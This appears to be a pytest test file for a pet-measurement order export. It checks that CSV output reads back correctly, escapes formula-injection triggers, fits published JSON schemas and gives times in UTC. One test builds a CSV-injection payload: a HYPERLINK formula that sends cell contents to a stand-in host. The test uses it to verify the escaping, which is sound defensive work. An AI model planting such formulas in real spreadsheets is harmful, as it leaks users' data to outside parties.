"""Orders out: safe in a spreadsheet, the same numbers back, and as the schema has it."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from photocheck.case.model import Reading
from photocheck.orders.draft import Draft
from photocheck.orders.export import COLUMNS, guarded, orders_csv, orders_json, orders_to_dict
from photocheck.orders.model import DECISIONS, STATES, Check, Decision, Order
from photocheck.report.file import report_from_dict
from photocheck.schemas.complaints import complaint
from photocheck.schemas.published import schema_text
from photocheck.shown.cutting_files import cutting_csv
from photocheck.shown.cutting_list import cut_rows_of
from photocheck.shown.outgoing import json_file, table_file
from tests.support.cut_orders import accepted
from tests.support.made_report import made_report

AT = datetime(2026, 3, 29, 7, 5, tzinfo=UTC)
# What OWASP's "CSV Injection" page lists: = + - @, tab, carriage return, line feed, and the
# full-width forms; NUL is ASVS 5.0, 1.2.10.
TRIGGERS = tuple("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")


def order(key: str = "k3f9", **case: Any) -> Order:
    report = made_report()
    report = replace(report, case=replace(report.case, **case))
    check = Check(
        17, AT, "owner", Draft(format="photocheck-case/1", name="Juno"), report, "0.1", ""
    )
    decision = Decision(AT, "Ada", "asked_again", "The rear, again", "Hello, ...", 17)
    return Order(key, AT, "de", Draft(name="Juno"), (check,), (decision,))


def test_the_table_reads_back_in_pandas() -> None:
    text = orders_csv([order("one"), Order("two", AT, "en", Draft())])
    typed = {column: str for column in COLUMNS if column.endswith("_typed")}
    table = pd.read_csv(io.StringIO(text), dtype=typed)
    assert list(table.columns) == list(COLUMNS)
    first, second = table.iloc[0], table.iloc[1]
    assert first["rear_length_mm"] == 457.2
    assert first["rear_length_photo_mm"] == 338.0
    assert first["rear_length_typed"] == "18"
    assert first["rear_length_verdict"] == "measure_again"
    assert pd.isna(first["neck_ring_mm"])
    assert first["decision"] == "asked_again"
    assert pd.Timestamp(first["decided"]) == pd.Timestamp(AT)
    assert second["state"] == "being_filled_in"
    assert second["checks"] == 0
    assert pd.isna(second["verdict"])


def test_semicolons_for_spreadsheets_with_decimal_commas() -> None:
    text = orders_csv([order(name="Fell; dogs, all")], delimiter=";")
    assert pd.read_csv(io.StringIO(text), sep=";").iloc[0]["verdict"] == "measure_again"


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_no_text_of_a_stranger_begins_a_formula(trigger: str) -> None:
    formula = f'{trigger}HYPERLINK("http://x.example/?"&A1,"ok")'
    assert guarded(formula).startswith("'")
    dog = replace(made_report().case.dog, name=formula, breed=formula)
    readings = {"half_neck": Reading(368.3, formula, "in")}
    text = orders_csv([order(formula, name=formula, dog=dog, readings=readings)])
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert sum("HYPERLINK" in cell for cell in cells) == 4
    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []


@given(st.text(alphabet="=+-@;,\t\r\n\"' |aé1", max_size=30))
def test_no_split_of_the_line_begins_a_formula(text: str) -> None:
    """A spreadsheet set to another separator cuts inside cells: still no formula."""
    out = orders_csv([order(name=text)])
    for separator in ",;\t\n\r|":
        for piece in out.split(separator):
            assert not piece.lstrip('"').startswith(TRIGGERS[:4])


@given(st.text(max_size=40))
def test_texts_without_formulas_stay_as_they_are(text: str) -> None:
    assert guarded("a" + text.translate({ord(c): " " for c in TRIGGERS})).startswith("a")
    assert guarded("Juno, the second") == "Juno, the second"


def test_the_json_is_as_the_published_schemas_have_it() -> None:
    schema = json.loads(schema_text("orders"))
    Draft202012Validator.check_schema(schema)
    data = json.loads(orders_json([order(), Order("two", AT, "en", Draft())]))
    assert complaint(data, "orders") is None
    report = data["orders"][0]["checks"][0]["report"]
    assert complaint(report, "report") is None
    assert report_from_dict(report) == order().checks[0].report
    wrong = json.loads(json.dumps(data))
    wrong["orders"][0]["decisions"][0]["choice"] = "perhaps"
    assert complaint(wrong, "orders") is not None
    wrong = json.loads(json.dumps(data))
    wrong["orders"][0]["note"] = ""
    assert complaint(wrong, "orders") is not None


def test_the_schema_knows_the_words_of_the_desk() -> None:
    defs = json.loads(schema_text("orders"))["$defs"]
    assert defs["choice"]["enum"] == list(DECISIONS)
    assert defs["order"]["properties"]["state"]["enum"] == list(STATES)


def test_moments_are_given_in_utc() -> None:
    east = replace(order(), opened=datetime(2026, 3, 29, 9, 5, tzinfo=timezone(timedelta(hours=2))))
    assert orders_to_dict([east])["orders"][0]["opened"] == "2026-03-29T07:05:00Z"


def test_half_a_letter_that_was_kept_spoils_no_table() -> None:
    """A case file could bring one in, and no file with that order in it could be written."""
    kept = accepted(1, name="Ju\ud800no")
    assert "Juno" in cutting_csv(cut_rows_of([kept])).encode().decode()
    for made in (table_file([kept]), json_file([kept])):
        assert "Ju\ufffdno" in made.decode()
